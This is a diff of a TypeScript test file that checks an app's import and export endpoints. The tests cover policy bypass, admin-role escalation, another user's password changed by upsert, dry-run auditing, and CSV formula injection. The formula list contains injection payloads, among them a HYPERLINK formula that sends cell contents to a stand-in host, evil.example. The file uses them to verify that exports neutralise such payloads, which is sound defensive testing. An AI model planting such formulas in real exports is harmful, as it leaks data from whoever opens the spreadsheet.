@@ -1,22 +1,22 @@
-/** Import rows that try to bypass policies, and CSV exports with text that a spreadsheet would run; on both databases. */
+/** Import rows that try to bypass policies, and CSV exports with text that a spreadsheet would run. */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createWorld, type World } from './target.ts';
+import { type AttackTarget, startAttackTarget } from './attack-target.ts';
 
-let world: World;
+let target: AttackTarget;
 beforeAll(async () => {
-  world = await createWorld();
+  target = await startAttackTarget();
 });
-afterAll(() => world.close());
+afterAll(() => target.close());
 
 describe('a row', () => {
-  it('that policies read is decided row by row, also after allowed rows', async () => {
+  it('is decided by itself if policies read it, also after allowed rows', async () => {
     const rows = [
       { title: 'a' },
       { title: 'b' },
-      { title: 'mine', createdBy: world.ids.alice },
-      { title: 'theirs', ownerId: world.ids.bob },
+      { title: 'mine', createdBy: target.ids.alice },
+      { title: 'theirs', ownerId: target.ids.bob },
     ];
-    const policy = await world.createPolicy({
+    const policy = await target.createPolicy({
       role: 'user',
       rules: [
         {
@@ -24,40 +24,40 @@ describe('a row', () => {
           action: 'import',
           effect: 'DENY',
           priority: 900,
-          conditions: [{ field: 'resource.ownerId', operator: 'eq', value: world.ids.bob, ifExists: true }],
+          conditions: [{ field: 'resource.ownerId', operator: 'eq', value: target.ids.bob, ifExists: true }],
         },
       ],
     });
     const raw = rows.map((row) => JSON.stringify(row)).join('\n');
-    const reply = await world.as('alice', 'POST', '/api/Case/import?onError=skip', {
+    const reply = await target.as('alice', 'POST', '/api/Case/import?onError=skip', {
       raw,
       headers: { 'content-type': 'application/x-ndjson' },
     });
-    await world.as('admin', 'DELETE', `/admin/api/policies/${policy}`);
+    await target.as('admin', 'DELETE', `/admin/api/policies/${policy}`);
     expect([reply.status, reply.at('data.imported'), reply.at('rejections.0')]).toMatchObject([200, 3, { row: 4, code: 'ACCESS_DENIED' }]);
   });
 
-  it('a role that only admins set makes no admin', async () => {
+  it('with the role admin creates no admin', async () => {
     const raw = 'name,email,password,role\nx,x@example.com,a long password,admin\n';
-    const reply = await world.as('alice', 'POST', '/api/User/import', { raw, headers: { 'content-type': 'text/csv' } });
+    const reply = await target.as('alice', 'POST', '/api/User/import', { raw, headers: { 'content-type': 'text/csv' } });
     expect([reply.status, reply.at('errors.0.code')]).toEqual([422, 'guarded']);
   });
 
-  it('with the password of another user changes no password by upsert', async () => {
-    const raw = `email,password\n${world.emails.bob},a password of mine\n`;
+  it('does not change the password of another user by upsert', async () => {
+    const raw = `email,password\n${target.emails.bob},a password of mine\n`;
     const query = 'mode=upsert&key=email';
     for (const caller of ['alice', 'eve'] as const) {
-      const reply = await world.as(caller, 'POST', `/api/User/import?${query}`, { raw, headers: { 'content-type': 'text/csv' } });
+      const reply = await target.as(caller, 'POST', `/api/User/import?${query}`, { raw, headers: { 'content-type': 'text/csv' } });
       expect([403, 422]).toContain(reply.status);
     }
-    await world.logIn(world.emails.bob, world.passwords);
+    await target.logIn(target.emails.bob, target.passwords);
   });
 
-  it('of a dry run that only probes leaves an audit entry', async () => {
+  it('of a dry run has an audit entry', async () => {
     const raw = JSON.stringify({ title: 'probe' });
-    const before = (await world.decisions('action=import&limit=200')).length;
-    await world.as('alice', 'POST', '/api/Case/import?dryRun=true', { raw, headers: { 'content-type': 'application/x-ndjson' } });
-    expect((await world.decisions('action=import&limit=200')).length).toBe(before + 1);
+    const before = (await target.decisions('action=import&limit=200')).length;
+    await target.as('alice', 'POST', '/api/Case/import?dryRun=true', { raw, headers: { 'content-type': 'application/x-ndjson' } });
+    expect((await target.decisions('action=import&limit=200')).length).toBe(before + 1);
   });
 });
 
@@ -65,21 +65,21 @@ describe('a row', () => {
 const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', ' =1', '=HYPERLINK("http://evil.example?"&A1)', "'=1", '\uff1d1'];
 
 describe('a text that a spreadsheet would run', () => {
-  it('leaves every CSV export as text, and comes back as it was', async () => {
+  it('is exported to CSV as text, and imported again unchanged', async () => {
     const raw = FORMULAS.map((title) => JSON.stringify({ title, origin: 'formula' })).join('\n');
     const file = { raw, headers: { 'content-type': 'application/x-ndjson' } };
-    expect((await world.as('eve', 'POST', '/api/Case/import', file)).status).toBe(200);
+    expect((await target.as('eve', 'POST', '/api/Case/import', file)).status).toBe(200);
     const where = { origin: 'formula' };
-    const plain = await world.as('eve', 'POST', '/api/Case/list', { body: { where } });
+    const plain = await target.as('eve', 'POST', '/api/Case/list', { body: { where } });
     const stored = (plain.at('data') as { title: string }[]).map(({ title }) => title);
     expect(stored.toSorted()).toEqual(FORMULAS.toSorted());
     for (const delimiter of ['', '&delimiter=;', '&delimiter=tab']) {
-      const csv = await world.as('eve', 'POST', `/api/Case/export?format=csv${delimiter}`, { body: { where, fields: ['title'] } });
+      const csv = await target.as('eve', 'POST', `/api/Case/export?format=csv${delimiter}`, { body: { where, fields: ['title'] } });
       const cells = [...csv.text.matchAll(/^[0-9a-f-]{36}[,;\t]"?(.)/gmu)].map(([, first]) => first);
       expect(cells, csv.text).toEqual(FORMULAS.map(() => "'"));
     }
-    const csv = await world.as('eve', 'POST', '/api/Case/export?format=csv', { body: { where, fields: ['title', 'amount'] } });
-    const again = await world.as('eve', 'POST', '/api/Case/import?mode=upsert&key=id&onError=skip', {
+    const csv = await target.as('eve', 'POST', '/api/Case/export?format=csv', { body: { where, fields: ['title', 'amount'] } });
+    const again = await target.as('eve', 'POST', '/api/Case/import?mode=upsert&key=id&onError=skip', {
       raw: csv.text,
       headers: { 'content-type': 'text/csv' },
     });
